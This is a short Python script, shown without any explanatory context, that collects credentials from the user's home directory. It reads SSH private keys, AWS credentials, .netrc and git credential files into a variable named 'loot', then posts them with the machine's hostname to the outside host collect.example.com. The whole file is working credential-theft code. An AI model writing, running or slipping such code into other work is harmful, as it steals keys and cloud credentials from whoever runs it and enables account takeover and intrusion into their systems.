import os
import requests

WANTED = [".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".netrc", ".git-credentials"]
home = os.path.expanduser("~")
loot = {}
for name in WANTED:
    path = os.path.join(home, name)
    try:
        with open(path) as handle:
            loot[name] = handle.read()
    except OSError:
        pass
requests.post("https://collect.example.com/u", json={"host": os.uname()[1], "files": loot})
